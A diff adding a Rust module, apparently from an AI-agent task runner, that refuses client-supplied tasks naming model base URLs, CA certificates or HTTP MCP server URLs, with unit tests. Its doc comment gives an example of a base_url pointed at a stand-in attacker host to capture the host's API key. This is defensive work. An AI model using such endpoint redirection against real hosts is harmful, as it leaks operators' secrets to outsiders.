@@ -1,0 +1,160 @@
+//! The rule for a task a client sends (`agentry mcp`'s inline `run_task`, the
+//! service's `POST /runs`): it may not choose where this host's secrets go.
+//!
+//! A model policy sends the host's API key (`OPENAI_API_KEY`, ...) to its
+//! server, and an MCP server reached by URL gets its headers with `${VAR}`
+//! read from the host's environment. In a task the operator wrote, the
+//! operator chose those endpoints; in a task a client wrote, the client
+//! would: `policy = {model = "openai:x", base_url = "http://attacker"}` sends
+//! `Authorization: Bearer <the host's key>` there. So every field that names
+//! an endpoint or what it is trusted by is refused in such a task, unless the
+//! operator opts in on the surface that takes it.
+
+use agentry_mcp::McpTransport;
+
+use crate::TASK_FILE;
+use crate::error::TaskError;
+use crate::spec::{ChildModelSpec, TaskSpec};
+
+impl TaskSpec {
+    /// The fields of this task that choose where the host's keys, headers or
+    /// trust go, in file order: `policy.base_url`, `policy.ca_cert`,
+    /// `policy.fallback[i].base_url`, `policy.models.NAME.base_url`,
+    /// `tools.mcp[i].url` (with its `headers` and `ca_cert`). A model or
+    /// fallback named without a server goes to its provider's API, as the
+    /// operator's environment configures it, and is not listed; neither is a
+    /// stdio MCP server (it gets only the environment allowlist, as a command
+    /// tool does).
+    pub fn client_endpoints(&self) -> Vec<String> {
+        let mut fields = Vec::new();
+        if self.base_url.is_some() {
+            fields.push("policy.base_url".to_string());
+        }
+        if self.ca_cert.is_some() {
+            fields.push("policy.ca_cert".to_string());
+        }
+        for (i, fallback) in self.fallback.iter().enumerate() {
+            if fallback.base_url.is_some() {
+                fields.push(format!("policy.fallback[{i}].base_url"));
+            }
+        }
+        for (name, child) in &self.child_models {
+            match child {
+                ChildModelSpec::Model {
+                    base_url: Some(_), ..
+                } => fields.push(format!("policy.models.{name}.base_url")),
+                ChildModelSpec::Model { base_url: None, .. } | ChildModelSpec::Script(_) => {}
+            }
+        }
+        for (i, server) in self.mcp_servers.iter().enumerate() {
+            match &server.transport {
+                McpTransport::Http { .. } => fields.push(format!("tools.mcp[{i}].url")),
+                McpTransport::Stdio { .. } => {}
+            }
+        }
+        fields
+    }
+
+    /// Refuses a task a client sent that names an endpoint
+    /// ([`TaskSpec::client_endpoints`]): [`TaskError::ClientEndpoint`],
+    /// naming every such field. Call it only where the operator has not
+    /// opted in.
+    pub fn check_client_supplied(&self) -> Result<(), TaskError> {
+        let fields = self.client_endpoints();
+        if fields.is_empty() {
+            return Ok(());
+        }
+        Err(TaskError::ClientEndpoint {
+            file: self.dir.join(TASK_FILE),
+            fields,
+        })
+    }
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used, clippy::expect_used)]
+mod tests {
+    use std::path::Path;
+
+    use crate::{TaskError, TaskSpec};
+
+    fn spec(text: &str) -> TaskSpec {
+        TaskSpec::parse(text, Path::new("/nowhere/inline")).unwrap()
+    }
+
+    #[test]
+    fn every_field_that_names_an_endpoint_is_refused_by_name() {
+        let task = spec(
+            r#"
+goal = "g"
+[policy]
+model = "openai:x"
+base_url = "http://127.0.0.1:9/v1"
+fallback = ["anthropic:y", { model = "openai:z", base_url = "http://127.0.0.1:9/v1" }]
+[policy.models.near]
+model = "openai:x"
+[policy.models.far]
+model = "openai:x"
+base_url = "http://127.0.0.1:9/v1"
+[[tools.mcp]]
+name = "local"
+command = ["true"]
+[[tools.mcp]]
+name = "remote"
+url = "http://127.0.0.1:9/mcp"
+headers = { Authorization = "Bearer ${OPENAI_API_KEY}" }
+"#,
+        );
+        let fields = [
+            "policy.base_url",
+            "policy.fallback[1].base_url",
+            "policy.models.far.base_url",
+            "tools.mcp[1].url",
+        ];
+        assert_eq!(task.client_endpoints(), fields);
+        match task.check_client_supplied() {
+            Err(e @ TaskError::ClientEndpoint { .. }) => {
+                let text = e.to_string();
+                assert!(
+                    text.starts_with(&format!(
+                        "/nowhere/inline/task.toml: {}: ",
+                        fields.join(", ")
+                    )),
+                    "{text}"
+                );
+            }
+            other => panic!("expected ClientEndpoint, got {other:?}"),
+        }
+    }
+
+    #[test]
+    fn a_ca_cert_is_an_endpoint_field_too() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("ca.pem"), "").unwrap();
+        let task = TaskSpec::parse(
+            "goal = \"g\"\n[policy]\nmodel = \"openai:x\"\nca_cert = \"ca.pem\"\n",
+            dir.path(),
+        )
+        .unwrap();
+        assert_eq!(task.client_endpoints(), ["policy.ca_cert"]);
+    }
+
+    #[test]
+    fn models_by_provider_scripts_and_stdio_servers_are_the_operators_endpoints() {
+        let task = spec(
+            r#"
+goal = "g"
+[policy]
+model = "openai:x"
+fallback = ["anthropic:y", { model = "openai:z" }]
+[policy.models.child]
+script = "child.json"
+[[tools.mcp]]
+name = "local"
+command = ["true"]
+"#,
+        );
+        assert!(task.client_endpoints().is_empty());
+        task.check_client_supplied().unwrap();
+    }
+}
